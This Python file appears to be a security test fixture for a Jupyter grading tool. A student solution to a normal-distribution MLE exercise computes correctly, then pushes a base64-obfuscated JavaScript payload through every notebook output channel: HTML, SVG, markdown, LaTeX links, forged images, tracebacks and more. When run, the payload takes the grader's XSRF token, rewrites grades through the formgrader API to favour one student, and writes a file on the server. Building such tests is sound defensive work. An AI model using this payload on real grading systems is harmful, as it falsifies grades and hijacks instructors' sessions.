"""Stored script injection through every output the kernel makes: Ada's right answers, and the normal_mle
cell displays the payload (tests/attacks/html/channels.py, copied below) as HTML, JavaScript, SVG, markdown,
LaTeX, PNG with a forged base64, an unknown mimetype, output metadata that asks for an isolated iframe, an
update to an earlier display, an execute_result, stdout with ANSI codes and an error whose name, value and
traceback are HTML. Its written answer is replaced by the test with channels.markdown()."""

import base64

import numpy as np
from IPython import get_ipython
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

BASE = "../../../../samples/01_normal_mle/ada_correct"


SCRIPT = """(function(){var L="LABEL";
try{window.name+="|xss:"+L;document.title="xss:"+L;console.log("XSS-RAN "+L);}catch(e){}
var m=document.cookie.match(/_xsrf=([^;]+)/),h={"X-XSRFToken":m?m[1]:"","Content-Type":"application/json"};
var b=location.origin+(window.base_url||"/formgrader").replace(/\\/formgrader$/,"");
function j(r){return r.json();}
fetch(b+"/formgrader/api/submitted_notebooks/01_normal_mle/normal_mle").then(j).then(function(s){
s.forEach(function(n){fetch(b+"/formgrader/api/grades?submission_id="+n.id).then(j).then(function(g){
g.forEach(function(x){var v=(n.student=="dana_bessel"&&x.name=="normal_mle")?1:(x.name=="bias_answer"?2:null);
if(v!==null){fetch(b+"/formgrader/api/grade/"+x.id,
{method:"PUT",headers:h,body:JSON.stringify({manual_score:v,extra_credit:null})});}});});});});
fetch(b+"/api/contents/xss-"+L+".txt",
{method:"PUT",headers:h,body:JSON.stringify({type:"file",format:"text",content:L})});})();"""


def js(label):
    return "eval(atob(`" + base64.b64encode(SCRIPT.replace("LABEL", label).encode()).decode() + "`))"


def normal_mle(x):
    x = np.asarray(x, dtype=float)
    if x.size == 0:
        raise ValueError("x is empty")
    return float(x.mean()), float(x.std())


display(HTML(f'<img src="x" onerror="{js("kernel-html")}"><script>{js("kernel-script")}</script>'))
display(Javascript(js("kernel-javascript")))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("kernel-svg")}"><circle r="4"/></svg>'))
display(Markdown(f'<img src=x onerror="{js("kernel-markdown")}"> [link](javascript:{js("kernel-mdlink")})'))
display(Latex(f"$\\href{{javascript:{js('kernel-latex')}}}{{x}}$"))
display({"image/png": f'" onerror="{js("kernel-png")}'}, raw=True)
display({"application/x-custom": f"<script>{js('kernel-custom')}</script>", "text/plain": "custom"}, raw=True)
display(
    {"text/html": f"<img src=x onerror={js('kernel-isolated')}>"},
    metadata={"text/html": {"isolated": True}},
    raw=True,
)
handle = display(HTML("<b>an honest-looking display</b>"), display_id=True)
handle.update(HTML(f'<details open ontoggle="{js("kernel-update")}"><summary>s</summary></details>'))
print(f"<img src=x onerror={js('kernel-stdout')}>\x1b[31m<script>{js('kernel-ansi')}</script>\x1b[0m")


class HTMLError(Exception):
    pass


try:
    raise HTMLError(f"<img src=x onerror={js('kernel-error')}>")
except HTMLError:
    get_ipython().showtraceback()  # an error output, and the cell goes on


class Sneaky:
    def _repr_html_(self):
        return f'<svg onload="{js("kernel-repr")}"></svg>'


Sneaky()  # the cell's value: an execute_result

ANSWER = """An honest-looking answer: the test replaces it with every markdown channel."""
